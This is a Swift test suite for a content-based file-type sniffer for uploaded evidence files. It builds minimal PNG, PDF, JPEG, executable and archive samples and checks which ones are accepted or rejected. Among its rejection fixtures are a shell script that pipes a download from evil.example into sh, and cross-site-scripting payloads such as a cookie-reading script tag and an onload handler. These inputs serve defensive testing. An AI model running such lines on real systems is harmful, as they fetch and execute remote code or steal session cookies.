import Portal
import Testing

/// Small but real files, built byte by byte.
private enum Sample {
    static func bytes(_ text: String) -> [UInt8] { Array(text.utf8) }

    static func bigEndian(_ value: UInt32) -> [UInt8] {
        [UInt8(value >> 24), UInt8(value >> 16 & 0xFF), UInt8(value >> 8 & 0xFF), UInt8(value & 0xFF)]
    }

    /// CRC-32 (ISO 3309, as in PNG and zlib), written independently of the sniffer's.
    static func crc32(_ bytes: [UInt8]) -> UInt32 {
        var crc: UInt32 = 0xFFFF_FFFF
        for byte in bytes {
            crc ^= UInt32(byte)
            for _ in 0..<8 {
                crc = crc & 1 == 1 ? (crc >> 1) ^ 0xEDB8_8320 : crc >> 1
            }
        }
        return crc ^ 0xFFFF_FFFF
    }

    // MARK: PNG

    static let pngSignature: [UInt8] = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]

    static func pngChunk(_ type: String, _ data: [UInt8], crc: UInt32? = nil) -> [UInt8] {
        let typeAndData = bytes(type) + data
        return bigEndian(UInt32(data.count)) + typeAndData + bigEndian(crc ?? crc32(typeAndData))
    }

    static func ihdr(width: UInt32 = 1, height: UInt32 = 1, bitDepth: UInt8 = 8, colourType: UInt8 = 6,
                     interlace: UInt8 = 0) -> [UInt8] {
        bigEndian(width) + bigEndian(height) + [bitDepth, colourType, 0, 0, interlace]
    }

    /// zlib-compressed scanline of one transparent RGBA pixel (filter byte + 4 zero bytes).
    static let onePixelData: [UInt8] = [0x78, 0x9C, 0x63, 0x60, 0x00, 0x02, 0x00, 0x00, 0x05, 0x00, 0x01]

    /// A 1×1 transparent PNG: signature, IHDR, IDAT, IEND.
    static func png(header: [UInt8] = ihdr(), headerCRC: UInt32? = nil) -> [UInt8] {
        pngSignature + pngChunk("IHDR", header, crc: headerCRC) + pngChunk("IDAT", onePixelData) + pngChunk("IEND", [])
    }

    /// The same 1×1 PNG as written by zlib-based tools, to check the builder above.
    static let referencePNG: [UInt8] = [
        0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48, 0x44, 0x52,
        0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1F, 0x15, 0xC4,
        0x89, 0x00, 0x00, 0x00, 0x0B, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9C, 0x63, 0x60, 0x00, 0x02, 0x00,
        0x00, 0x05, 0x00, 0x01, 0x7A, 0x5E, 0xAB, 0x3F, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4E, 0x44,
        0xAE, 0x42, 0x60, 0x82,
    ]

    // MARK: PDF

    /// A one-page PDF 1.4 with a correct cross-reference table.
    static func pdf() -> [UInt8] {
        var file = bytes("%PDF-1.4\n%") + [0xE2, 0xE3, 0xCF, 0xD3] + bytes("\n")
        let objects = [
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        ]
        var offsets: [Int] = []
        for (index, object) in objects.enumerated() {
            offsets.append(file.count)
            file += bytes("\(index + 1) 0 obj\n\(object)\nendobj\n")
        }
        let xref = file.count
        file += bytes("xref\n0 \(objects.count + 1)\n0000000000 65535 f \n")
        for offset in offsets {
            let digits = String(offset)
            file += bytes(String(repeating: "0", count: 10 - digits.count) + digits + " 00000 n \n")
        }
        file += bytes("trailer\n<< /Size \(objects.count + 1) /Root 1 0 R >>\nstartxref\n\(xref)\n%%EOF\n")
        return file
    }

    // MARK: JPEG

    /// A 1×1 grey baseline JPEG: SOI, DQT, SOF0, two one-code Huffman tables, SOS, one
    /// block of entropy-coded data (DC difference 0, end of block), EOI.
    static func jpeg() -> [UInt8] {
        var file: [UInt8] = [0xFF, 0xD8]
        file += [0xFF, 0xDB, 0x00, 0x43, 0x00] + [UInt8](repeating: 1, count: 64)        // DQT
        file += [0xFF, 0xC0, 0x00, 0x0B, 0x08, 0x00, 0x01, 0x00, 0x01, 0x01, 0x01, 0x11, 0x00]  // SOF0
        let oneCodeOfLengthOne: [UInt8] = [1] + [UInt8](repeating: 0, count: 15) + [0x00]
        file += [0xFF, 0xC4, 0x00, 0x14, 0x00] + oneCodeOfLengthOne                       // DHT DC 0
        file += [0xFF, 0xC4, 0x00, 0x14, 0x10] + oneCodeOfLengthOne                       // DHT AC 0
        file += [0xFF, 0xDA, 0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x3F, 0x00]              // SOS
        file += [0x3F]                                                                     // scan data
        file += [0xFF, 0xD9]                                                               // EOI
        return file
    }

    // MARK: Rejected kinds

    /// The start of a 64-bit little-endian ELF executable.
    static let elf: [UInt8] = [0x7F, 0x45, 0x4C, 0x46, 0x02, 0x01, 0x01, 0x00] + [UInt8](repeating: 0, count: 8)
        + [0x02, 0x00, 0x3E, 0x00, 0x01, 0x00, 0x00, 0x00] + [UInt8](repeating: 0, count: 40)

    /// The start of a Windows PE executable: the DOS header and stub.
    static let pe: [UInt8] = [0x4D, 0x5A, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xFF, 0xFF]
        + [UInt8](repeating: 0, count: 46) + [0x80, 0x00, 0x00, 0x00]
        + bytes("This program cannot be run in DOS mode.\r\r\n$") + bigEndian(0x5045_0000)

    /// A ZIP local file header for "evidence.pdf", stored uncompressed.
    static let zip: [UInt8] = bytes("PK") + [0x03, 0x04, 0x14, 0x00, 0x00, 0x00, 0x00, 0x00]
        + [UInt8](repeating: 0, count: 16) + [0x0C, 0x00, 0x00, 0x00] + bytes("evidence.pdf%PDF-1.4\n%%EOF\n")
}

/// An upload as the client describes it; only `bytes` reaches the sniffer.
private struct Upload {
    let fileName: String
    let contentType: String
    let bytes: [UInt8]
}

struct FileSnifferTests {
    // MARK: Accepted kinds

    @Test func pngBuilderMatchesAReferenceFile() {
        #expect(Sample.png() == Sample.referencePNG)
    }

    @Test func pdfBuilderPointsItsCrossReferencesAtTheObjects() {
        let file = Sample.pdf()
        let text = String(decoding: file, as: UTF8.self)
        #expect(text.contains("0000000015 00000 n "))  // object 1 follows the 15-byte header
        #expect(Array(file[15..<22]) == Sample.bytes("1 0 obj"))
    }

    @Test func recognisesAMinimalPNG() {
        #expect(FileSniffer.detect(Sample.png()) == .png)
        #expect(FileSniffer.detect(Sample.referencePNG) == .png)
    }

    @Test(arguments: [
        Sample.ihdr(bitDepth: 1, colourType: 0),
        Sample.ihdr(bitDepth: 16, colourType: 0),
        Sample.ihdr(bitDepth: 8, colourType: 2),
        Sample.ihdr(bitDepth: 4, colourType: 3),
        Sample.ihdr(bitDepth: 16, colourType: 4),
        Sample.ihdr(width: 1920, height: 1080, bitDepth: 8, colourType: 6, interlace: 1),
    ])
    func recognisesPNGHeadersOfEveryColourType(_ header: [UInt8]) {
        #expect(FileSniffer.detect(Sample.png(header: header)) == .png)
    }

    @Test func recognisesAMinimalPDF() {
        #expect(FileSniffer.detect(Sample.pdf()) == .pdf)
    }

    @Test func recognisesAPDFWithUpTo1024BytesAfterItsEndMarker() {
        let padded = Sample.pdf() + [UInt8](repeating: 0x0A, count: 1018)  // "%%EOF\n" ends 1024 from the end
        #expect(FileSniffer.detect(padded) == .pdf)
        #expect(FileSniffer.detect(padded + [0x0A]) == nil)
    }

    @Test func recognisesAMinimalJPEG() {
        #expect(FileSniffer.detect(Sample.jpeg()) == .jpeg)
    }

    @Test(arguments: [[0x00], [0x0A], [0x0D, 0x0A], [UInt8](repeating: 0, count: 16)] as [[UInt8]])
    func recognisesAJPEGWithAFewBytesOfPadding(_ padding: [UInt8]) {
        #expect(FileSniffer.detect(Sample.jpeg() + padding) == .jpeg)
    }

    @Test func recognisesAJPEGWithAnExifSegment() {
        var file = Sample.jpeg()
        let exif: [UInt8] = [0xFF, 0xE1, 0x00, 0x10] + Sample.bytes("Exif") + [0, 0] + Sample.bytes("II*\0") + [8, 0, 0, 0]
        file.insert(contentsOf: exif, at: 2)
        #expect(FileSniffer.detect(file) == .jpeg)
    }

    @Test func decidesByContentNotByNameOrContentType() {
        let upload = Upload(fileName: "evidence.pdf", contentType: "application/pdf", bytes: Sample.png())
        #expect(FileSniffer.detect(upload.bytes) == .png)
        let text = Upload(fileName: "photo.jpg", contentType: "image/jpeg", bytes: Sample.bytes("Not a photo.\n"))
        #expect(FileSniffer.detect(text.bytes) == .plainText)
    }

    // MARK: Rejected binaries

    @Test func rejectsAnELFExecutableWhateverItIsCalled() {
        let upload = Upload(fileName: "evidence.pdf", contentType: "application/pdf", bytes: Sample.elf)
        #expect(FileSniffer.detect(upload.bytes) == nil)
    }

    @Test func rejectsAWindowsExecutable() {
        #expect(FileSniffer.detect(Sample.pe) == nil)
        // Even an "MZ" file that would otherwise pass as text.
        #expect(FileSniffer.detect(Sample.bytes("MZ is a program header.\n")) == nil)
    }

    @Test func rejectsZIPArchives() {
        #expect(FileSniffer.detect(Sample.zip) == nil)
        #expect(FileSniffer.detect(Sample.bytes("PK") + [0x05, 0x06] + [UInt8](repeating: 0, count: 18)) == nil)
    }

    @Test func rejectsAScript() {
        #expect(FileSniffer.detect(Sample.bytes("#!/bin/sh\ncurl https://evil.example | sh\n")) == nil)
    }

    @Test func rejectsAGIF() {
        let gif = Sample.bytes("GIF89a") + [0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00, 0xFF, 0xFF, 0xFF, 0x00, 0x00, 0x00]
            + Sample.bytes(",") + [0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 0x01, 0x00, 0x3B]
        #expect(FileSniffer.detect(gif) == nil)
        #expect(FileSniffer.detect(Sample.bytes("GIF87a,1;2\n3,4;5\n")) == nil)
    }

    @Test func rejectsEmptyData() {
        #expect(FileSniffer.detect([]) == nil)
        #expect(FileSniffer.detect([0xEF, 0xBB, 0xBF]) == nil)  // a byte order mark alone
    }

    // MARK: Damaged images and documents

    @Test func rejectsPNGsWithoutAWellFormedHeaderChunk() {
        let png = Sample.png()
        #expect(FileSniffer.detect(Sample.pngSignature) == nil)
        #expect(FileSniffer.detect(Array(png.prefix(32))) == nil)
        #expect(FileSniffer.detect(Sample.png(headerCRC: 0xDEAD_BEEF)) == nil)
        #expect(FileSniffer.detect(Sample.pngSignature + Sample.pngChunk("IDAT", Sample.onePixelData)) == nil)
        #expect(FileSniffer.detect(Sample.png(header: Sample.ihdr(width: 0))) == nil)
        #expect(FileSniffer.detect(Sample.png(header: Sample.ihdr(height: 0x8000_0000))) == nil)
        #expect(FileSniffer.detect(Sample.png(header: Sample.ihdr(bitDepth: 3, colourType: 0))) == nil)
        #expect(FileSniffer.detect(Sample.png(header: Sample.ihdr(bitDepth: 16, colourType: 3))) == nil)
        #expect(FileSniffer.detect(Sample.png(header: Sample.ihdr(colourType: 5))) == nil)
        #expect(FileSniffer.detect(Sample.png(header: Sample.ihdr(interlace: 2))) == nil)
        #expect(FileSniffer.detect(Sample.png(header: Sample.ihdr() + [0])) == nil)  // length 14
    }

    @Test func rejectsPDFsWithoutAnEndMarkerNearTheEnd() {
        let pdf = Sample.pdf()
        #expect(FileSniffer.detect(Array(pdf.dropLast(7))) == nil)  // truncated before "%%EOF"
        #expect(FileSniffer.detect(Sample.bytes("%PDF-1.7\n1 0 obj\n<< >>\nendobj\n")) == nil)  // not taken as text
        #expect(FileSniffer.detect(pdf + [UInt8](repeating: 0x20, count: 2000)) == nil)
    }

    @Test func requiresThePDFHeaderAtTheStart() {
        #expect(FileSniffer.detect([0x00, 0x01, 0x02] + Sample.pdf()) == nil)
        #expect(FileSniffer.detect(Sample.bytes("%pdf-1.4\n%%EOF\n")) == .plainText)
    }

    @Test func rejectsJPEGsThatAreNotWhole() {
        let jpeg = Sample.jpeg()
        #expect(FileSniffer.detect(Array(jpeg.dropLast(2))) == nil)                      // no end of image
        #expect(FileSniffer.detect(jpeg + [UInt8](repeating: 0, count: 17)) == nil)      // too much padding
        #expect(FileSniffer.detect(jpeg + Sample.bytes("<html>")) == nil)                // data after the end
        #expect(FileSniffer.detect([0xFF, 0xD8, 0xFF, 0xD9]) == nil)                      // no image at all
        #expect(FileSniffer.detect([0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x02, 0xFF, 0xD9]) == nil)  // no frame or scan
        var garbled = jpeg
        garbled[2...3] = [0x12, 0x34]                                                    // not a marker
        #expect(FileSniffer.detect(garbled) == nil)
        var overlong = jpeg
        overlong[4...5] = [0xFF, 0xFF]                                                   // DQT runs past the end
        #expect(FileSniffer.detect(overlong) == nil)
    }

    // MARK: Active content

    @Test(arguments: [
        "<!DOCTYPE html>\n<html><body>Le livre</body></html>\n",
        "<!doctype html><title>x</title>",
        "<html>\n<body>x</body>\n</html>\n",
        "  \n\t<HTML lang=\"fr\">",
        "\u{FEFF}<html>",
        "<HtMl>",
        "<script>alert(document.cookie)</script>",
        "<p>Dear provider,</p>",
        "<a href=\"https://evil.example\">click</a>",
        "<body onload=alert(1)>",
        "<iframe src=x>",
        "<!-- comment -->\nhello",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
        "<SVG>",
        "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><root/>",
        "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"x\">",
    ])
    func rejectsMarkupABrowserWouldRun(_ text: String) {
        #expect(FileSniffer.detect(Sample.bytes(text)) == nil)
    }

    @Test(arguments: [
        "<pre-1990 catalogue>\n",
        "I saw <html> in the page source.\n",
        "< p >\n",
        "<3 this book\n",
    ])
    func acceptsTextThatMerelyMentionsMarkup(_ text: String) {
        #expect(FileSniffer.detect(Sample.bytes(text)) == .plainText)
    }

    // MARK: CSV

    @Test(arguments: [
        "title,author,url\nLe Livre,Jean Dupont,https://x.example/1\n",
        "title,author,url\n\"Le Livre, tome 1\",\"Dupont, Jean\",https://x.example/1\n",
        "titre;auteur;url\nLe Livre;Dupont, Jean;https://x.example/1\n",
        "a,b\r\n1,2\r\n",
        "a,b\n1,2",
        "a,b\n1,2\n\n\n",
        "\u{FEFF}a,b\n1,2\n",
        "quote,who\n\"He said \"\"hi, there\"\"\",me\n",
        "note,id\n\"first line\nsecond line, still the note\",7\n",
        "a,,\n,,\n,,\n",
        "id;name;city;country\n1;Anna;Lyon;FR\n2;Bo;Oslo;NO\n3;Cy;Cork;IE\n",
    ])
    func recognisesCSV(_ text: String) {
        #expect(FileSniffer.detect(Sample.bytes(text)) == .csv)
    }

    @Test func checksOnlyTheFirst20LinesOfCSV() {
        let rows = (1...20).map { "\($0),row" }.joined(separator: "\n")
        #expect(FileSniffer.detect(Sample.bytes("id,name\n" + rows + "\nloose line without commas\n")) == .csv)
        #expect(FileSniffer.detect(Sample.bytes("id,name\nloose line\n" + rows)) == .plainText)
    }

    @Test(arguments: [
        "a,b,c\n",                                    // one line
        "a,b,c",
        "name,title\nJean,Le Livre,2020\n",          // inconsistent
        "a,b\n\n1,2\n",                               // blank line in between
        "\"a,b\nc,d\n",                               // quote never closed
        "first line\nsecond line\n",                  // no delimiter
        "Dear provider,\nMy book was copied.\nRegards,\nJane\n",
    ])
    func takesOtherTextAsPlainText(_ text: String) {
        #expect(FileSniffer.detect(Sample.bytes(text)) == .plainText)
    }

    // MARK: Plain text

    @Test(arguments: [
        "Hello",
        "\n",
        "Le Livre – Élise écrit 📚\n",
        "\u{FEFF}With a byte order mark\n",
        "Tabs\tand\r\nWindows line endings\r\n",
        "Page one\u{0C}Page two\n",
        "Σ ∑ 中文 العربية\n",
    ])
    func recognisesPlainText(_ text: String) {
        #expect(FileSniffer.detect(Sample.bytes(text)) == .plainText)
    }

    @Test(arguments: [
        Sample.bytes("Hello\u{0}World"),
        Sample.bytes("bell\u{7}\n"),
        Sample.bytes("escape \u{1B}[31mred\n"),
        Sample.bytes("vertical\u{0B}tab\n"),
        [0x48, 0x69, 0xC3, 0x28],             // invalid continuation byte
        [0x48, 0x69, 0xFF],                   // a byte never used in UTF-8
        [0x48, 0x69, 0xC0, 0xAF],             // overlong "/"
        [0x48, 0x69, 0xED, 0xA0, 0x80],       // a UTF-16 surrogate
        [0x48, 0x69, 0xF4, 0x90, 0x80, 0x80], // beyond U+10FFFF
        [0x48, 0x69, 0xE2, 0x82],             // truncated sequence
        [0xFF, 0xFE, 0x48, 0x00, 0x69, 0x00], // UTF-16
    ] as [[UInt8]])
    func rejectsTextThatIsNotCleanUTF8(_ bytes: [UInt8]) {
        #expect(FileSniffer.detect(bytes) == nil)
    }

    // MARK: Types

    @Test(arguments: [
        (EvidenceFileType.pdf, "application/pdf", "pdf"),
        (.png, "image/png", "png"),
        (.jpeg, "image/jpeg", "jpg"),
        (.plainText, "text/plain; charset=utf-8", "txt"),
        (.csv, "text/csv; charset=utf-8", "csv"),
    ])
    func eachTypeHasItsMediaTypeAndExtension(_ type: EvidenceFileType, _ mediaType: String, _ fileExtension: String) {
        #expect(type.mediaType == mediaType)
        #expect(type.fileExtension == fileExtension)
    }

    @Test func typesHaveStableRawValues() {
        #expect(EvidenceFileType.allCases.map(\.rawValue) == ["pdf", "png", "jpeg", "text", "csv"])
        #expect(EvidenceFileType(rawValue: "text") == .plainText)
    }
}
